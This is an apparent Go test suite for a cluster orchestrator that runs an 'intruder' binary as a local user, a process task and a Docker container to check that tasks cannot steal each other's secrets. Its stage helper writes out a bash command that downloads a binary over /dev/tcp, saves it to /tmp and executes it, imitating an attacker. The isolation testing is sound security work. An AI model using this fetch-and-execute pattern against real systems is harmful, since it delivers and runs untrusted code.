package adversary

import (
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"warden/internal/testcluster"
)

// stage lets tasks fetch the intruder over loopback, as an attacker in a task would, and returns the command of a task that does.
func stage(t testing.TB) func(args ...string) []string {
	t.Helper()
	b, err := os.ReadFile(intruderBin(t))
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	t.Cleanup(func() { l.Close(); <-done })
	go func() {
		defer close(done)
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.SetDeadline(time.Now().Add(time.Minute))
			c.Write(b)
			c.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	return func(args ...string) []string {
		return append([]string{"bash", "-c", `set -e; exec 3<>/dev/tcp/127.0.0.1/` + port + `; cat <&3 >/tmp/intruder; exec 3>&-; chmod +x /tmp/intruder; exec /tmp/intruder "$@"`, "intruder"}, args...)
	}
}

// said waits until the logs of a service have a line that matches, and returns all of them.
func said(t testing.TB, m *testcluster.Host, service, pattern string) string {
	t.Helper()
	var out string
	testcluster.Await(t, 60*time.Second, func() error {
		var stderr string
		out, stderr, _ = m.Try("service", "logs", service)
		if !regexp.MustCompile(pattern).MatchString(out) {
			ps, _, _ := m.Try("service", "ps", "--no-trunc", service)
			return fmt.Errorf("logs of %s: %s%s\n%s", service, out, stderr, ps)
		}
		return nil
	})
	return out
}

// fails checks that the intruder reached nothing, and tried as much as it should.
func fails(t testing.TB, out string, triedMin int) {
	t.Helper()
	m := regexp.MustCompile(`tried (\d+), reached (\d+)`).FindStringSubmatch(out)
	if m == nil {
		t.Fatalf("the intruder did not end its work:\n%s", out)
	}
	tried, _ := strconv.Atoi(m[1])
	t.Logf("the intruder tried %d things", tried)
	if tried < triedMin {
		t.Errorf("the intruder tried %d things, want %d at least", tried, triedMin)
	}
	for line := range strings.Lines(out) {
		if strings.Contains(line, "REACHED") {
			t.Error(strings.TrimSpace(line))
		}
	}
}

// family returns a daemon's process and those below it: its tasks, with their supervisors and inits.
func family(t testing.TB, h *testcluster.Host) (all []string) {
	t.Helper()
	stats, _ := filepath.Glob("/proc/[0-9]*/stat")
	parent := map[int]int{}
	for _, path := range stats {
		b, err := os.ReadFile(path)
		if err != nil {
			continue
		}
		f := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+1:]))
		pid, _ := strconv.Atoi(strings.Split(path, "/")[2])
		parent[pid], _ = strconv.Atoi(f[1])
	}
	for pid := range parent {
		for p := pid; p > 1; p = parent[p] {
			if p == h.Pid() {
				all = append(all, strconv.Itoa(pid))
				break
			}
		}
	}
	return all
}

// onTheNode: who is on a worker, and not root there, is after the secrets of its tasks.
func (a *arena) onTheNode(t *testing.T) {
	m, w := a.m[0], a.w[0]
	m.CtlIn(testcluster.Canary, "secret", "create", "password", "-")
	m.CtlIn("mine", "secret", "create", "own", "-")
	command := stage(t)
	m.Ctl(append([]string{"service", "create", "--name", "victim", "--constraint", "node.hostname==w1", "--secret", "password", "host"}, command("victim")...)...)
	said(t, m, "victim", `victim: \d+ bytes of secrets, shared memory: <nil>`)
	if n := len(family(t, w)); n < 4 {
		t.Fatalf("%d processes of the worker are found, want its daemon, and the victim with its supervisor and init", n)
	}
	t.Run("LocalUser", a.localUser)
	t.Run("TaskAgainstTask", func(t *testing.T) { a.taskAgainstTask(t, command) })
	m.Ctl("service", "rm", "victim", "attacker")
}

// localUser is somebody with a shell and nothing else.
func (a *arena) localUser(t *testing.T) {
	m, w := a.m[0], a.w[0]
	// The test's own directories are shut to others; here the product's own modes are to be what stops him.
	for _, dir := range []string{a.Dir, filepath.Dir(w.State), filepath.Dir(m.State)} {
		if err := os.Chmod(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	var after []string
	for _, h := range []*testcluster.Host{m, w} {
		after = append(after, h.State, h.Sock)
		filepath.WalkDir(h.State, func(path string, _ fs.DirEntry, err error) error {
			if err == nil {
				after = append(after, path)
			}
			return nil
		})
		after = append(after, family(t, h)...)
	}
	groups := cgroupsOf(t, family(t, w))
	if len(groups) == 0 {
		t.Log("tasks have no cgroups here")
	}
	after = append(after, groups...)
	cmd := exec.Command(intruderBin(t), append([]string{"user"}, after...)...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 54321, Gid: 54321}}
	cmd.Dir = "/"
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "I am uid 54321 of groups []") {
		t.Fatalf("%v\n%s", err, out)
	}
	fails(t, string(out), 500)
	if strings.Contains(string(out), testcluster.Canary) {
		t.Error("the intruder has the secret")
	}
	testcluster.Await(t, 20*time.Second, func() error { // everything still works
		if out, stderr, _ := m.Try("service", "ps", "victim", "--format", "{{.CurrentState}}"); !strings.Contains(out, "Running") || strings.Count(out, "\n") != 1 {
			return errors.New(out + stderr)
		}
		return nil
	})
	m.Ctl("node", "ls")
}

// cgroupsOf returns the cgroups of processes that are not this test's own.
func cgroupsOf(t testing.TB, pids []string) (dirs []string) {
	seen := map[string]bool{}
	for _, pid := range pids {
		b, _ := os.ReadFile("/proc/" + pid + "/cgroup")
		for line := range strings.Lines(string(b)) {
			f := strings.SplitN(strings.TrimSpace(line), ":", 3)
			if len(f) != 3 || !strings.Contains(f[2], "warden") {
				continue
			}
			for _, dir := range []string{filepath.Join("/sys/fs/cgroup", f[1], f[2]), filepath.Join("/sys/fs/cgroup", f[2]), filepath.Join("/sys/fs/cgroup/unified", f[2])} {
				if _, err := os.Stat(dir); err == nil && !seen[dir] {
					seen[dir] = true
					dirs = append(dirs, dir)
				}
			}
		}
	}
	return dirs
}

// taskAgainstTask: a task of the process executor that is after another's secrets.
func (a *arena) taskAgainstTask(t *testing.T, command func(...string) []string) {
	m, w := a.m[0], a.w[0]
	m.Ctl(append([]string{"service", "create", "--name", "attacker", "--constraint", "node.hostname==w1", "--secret", "own", "host"}, command(append([]string{"task"}, family(t, w)...)...)...)...)
	out := said(t, m, "attacker", `tried \d+`)
	if !strings.Contains(out, "I have a secret of my own of 4 bytes") {
		t.Errorf("the attacker has no secret of its own, so the test proves nothing:\n%s", out)
	}
	fails(t, out, 200)
	if out := m.Ctl("service", "ps", "victim", "--format", "{{.CurrentState}}"); !strings.Contains(out, "Running") || strings.Count(out, "\n") != 1 {
		t.Errorf("the victim: %s", out)
	}
}

// TestContainerAgainstContainer: the same with the docker executor, and what the engine keeps of the victim.
func TestContainerAgainstContainer(t *testing.T) {
	testcluster.Root(t)
	if out, err := exec.Command("docker", "version", "--format", "{{.Server.Version}}").CombinedOutput(); err != nil {
		t.Skipf("no Docker Engine answers: %v: %s", err, out)
	}
	image := "warden-adversary-" + strconv.Itoa(os.Getpid())
	build := exec.Command("docker", "build", "--quiet", "--tag", image, "--file", "-", filepath.Dir(intruderBin(t)))
	build.Stdin = strings.NewReader("FROM scratch\nCOPY intruder /intruder\nENTRYPOINT [\"/intruder\"]\n")
	build.Env = append(os.Environ(), "DOCKER_BUILDKIT=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("building an image: %v: %s", err, out)
	}
	t.Cleanup(func() { exec.Command("docker", "rmi", "--force", image).Run() })
	c := testcluster.New(t)
	m := c.Host("n1", "--executor", "docker")
	m.Ctl("swarm", "init", "--availability", "active")
	m.CtlIn(testcluster.Canary, "secret", "create", "password", "-")
	m.CtlIn("mine", "secret", "create", "own", "-")
	m.Ctl("service", "create", "--name", "victim", "--secret", "password", image, "victim")
	said(t, m, "victim", `victim: \d+ bytes of secrets, shared memory: <nil>`)
	ids, err := exec.Command("docker", "ps", "--quiet", "--filter", "ancestor="+image).Output()
	if err != nil || len(strings.Fields(string(ids))) != 1 {
		t.Fatalf("containers of the victim = %q, %v", ids, err)
	}
	id := strings.TrimSpace(string(ids))
	top, err := exec.Command("docker", "top", id, "-o", "pid").Output()
	if err != nil {
		t.Fatal(err)
	}
	m.Ctl(append([]string{"service", "create", "--name", "attacker", "--secret", "own", image, "task"}, append(strings.Fields(string(top))[1:], strconv.Itoa(m.Pid()))...)...)
	out := said(t, m, "attacker", `tried \d+`)
	if !strings.Contains(out, "I have a secret of my own of 4 bytes") {
		t.Errorf("the attacker has no secret of its own, so the test proves nothing:\n%s", out)
	}
	fails(t, out, 200)
	for _, args := range [][]string{{"inspect", id}, {"export", id}, {"diff", id}, {"history", "--no-trunc", image}, {"save", image}} {
		b, err := exec.Command("docker", args...).Output()
		if err != nil || len(b) == 0 && args[0] != "diff" {
			t.Errorf("docker %s: %d bytes, %v", args[0], len(b), err)
		}
		if strings.Contains(string(b), testcluster.Canary) {
			t.Errorf("docker %s shows the secret", args[0])
		}
	}
}
